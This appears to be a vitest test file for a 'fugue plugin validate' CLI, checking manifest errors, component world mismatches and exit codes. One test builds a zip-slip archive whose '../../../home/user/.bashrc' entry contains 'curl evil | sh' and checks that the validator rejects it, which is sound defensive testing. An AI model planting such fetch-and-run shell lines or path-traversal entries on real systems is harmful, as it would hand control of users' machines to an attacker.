import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { execa } from 'execa';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXAMPLE_MANIFESTS } from '../../src-shared/manifest/examples.ts';
import { buildRawZip } from '../plugins/test-support/raw-zip.ts';
import { componentBytes, goodPackage, tempDir, writeFolder } from '../plugins/test-support/packages.ts';
import { builtFixture } from '../runtime/testing/fixtures.ts';

const repo = fileURLToPath(new URL('../../', import.meta.url));

/** Runs the real `fugue` binary in a child process. */
function fugue(...args: string[]) {
  return execa('node', ['bin/fugue.mjs', ...args], { cwd: repo, reject: false });
}

/** The lyrics-js fixture as a package folder, declaring `world` for its component. */
async function lyricsPackage(name: string, world: string): Promise<string> {
  const manifest = JSON.parse(await readFile(join(repo, 'plugin-fixtures/lyrics-js/plugin.json'), 'utf8'));
  manifest.components[0].world = world;
  if (world === 'dsp-plugin') manifest.components[0].abilities[0].kind = 'dsp';
  const component = await builtFixture('lyrics-js');
  return writeFolder(join(dir, name), { 'plugin.json': JSON.stringify(manifest), 'lyrics.wasm': component });
}

let dir: string;
let remove: () => Promise<void>;
beforeAll(async () => ({ dir, remove } = await tempDir()));
afterAll(async () => remove());

describe('fugue plugin validate', () => {
  it('prints ok and a one-line summary for a package with a real component, and exits 0', async () => {
    const result = await fugue('plugin', 'validate', await lyricsPackage('good', 'lyrics-plugin'));
    expect(result.stderr).toBe('');
    expect(result.exitCode).toBe(0);
    expect(result.stdout.split('\n')).toEqual(['ok', 'org.fugue.fixture.lyrics-js 0.1.0 (api 0.1.0), 1 component: lyrics (lyrics-plugin: echo)']);
  });

  it("reports a component whose imports and exports do not match its declared world, at that component's world", async () => {
    const result = await fugue('plugin', 'validate', await lyricsPackage('mismatch', 'dsp-plugin'));
    expect(result.exitCode).toBe(1);
    // componentize-qjs imports every interface of the world it was built for, used or not.
    expect(result.stdout.split('\n')).toEqual([
      'components[0].world: component "lyrics" (lyrics.wasm) imports fugue:plugin/host-stream@0.1.0; world dsp-plugin does not allow it',
      'components[0].world: component "lyrics" (lyrics.wasm) imports fugue:plugin/http-client@0.1.0; world dsp-plugin does not allow it',
      'components[0].world: component "lyrics" (lyrics.wasm) imports fugue:plugin/kv@0.1.0; world dsp-plugin does not allow it',
      'components[0].world: component "lyrics" (lyrics.wasm) does not export fugue:plugin/dsp@0.1.0, which world dsp-plugin requires; build the component for world dsp-plugin',
      'components[0].world: component "lyrics" (lyrics.wasm) exports fugue:plugin/lyrics@0.1.0; world dsp-plugin does not allow it',
    ]);
  });

  it('prints each problem of a bad package on its own line, and exits 1', async () => {
    const { name: _name, ...withoutName } = EXAMPLE_MANIFESTS.dsp;
    const manifest = { ...withoutName, components: [{ ...withoutName.components[0], world: 'dsp' }] };
    const bad = await writeFolder(join(dir, 'bad'), { 'plugin.json': JSON.stringify(manifest), 'gain.wasm': componentBytes() });
    const result = await fugue('plugin', 'validate', bad);
    expect(result.exitCode).toBe(1);
    expect(result.stdout.split('\n')).toEqual([
      'name: required; set it to a name of 1 to 80 characters',
      'components[0].world: "dsp" is not a world; use one of decoder-plugin, source-plugin, lyrics-plugin, output-sink-plugin, dsp-plugin',
    ]);
  });

  it('refuses a zip-slip archive, naming the entry, and exits 1', async () => {
    const zip = join(dir, 'hostile.zip');
    const files = goodPackage();
    await writeFile(zip, buildRawZip([
      { name: 'plugin.json', data: Buffer.from(files['plugin.json'] as string) },
      { name: 'gain.wasm', data: componentBytes() },
      { name: '../../../home/user/.bashrc', data: Buffer.from('curl evil | sh') },
    ]));
    const result = await fugue('plugin', 'validate', zip);
    expect(result.exitCode).toBe(1);
    expect(result.stdout).toBe(
      'package: entry "../../../home/user/.bashrc" contains a ".." segment; every file must stay inside the package root',
    );
  });

  it('says a missing path does not exist, and exits 1', async () => {
    const result = await fugue('plugin', 'validate', join(dir, 'missing'));
    expect(result.exitCode).toBe(1);
    expect(result.stdout).toMatch(/^package: ".*missing" does not exist; pass a plugin folder or a \.zip$/);
  });

  it('prints usage and exits 2 without a path', async () => {
    const result = await fugue('plugin', 'validate');
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toContain('usage: fugue plugin validate <folder-or-zip>');
  });

  it('prints the result as JSON with --json', async () => {
    const result = await fugue('plugin', 'validate', '--json', join(dir, 'missing'));
    expect(JSON.parse(result.stdout)).toMatchObject({ ok: false, issues: [{ path: 'package', code: 'not-found' }] });
  });
});
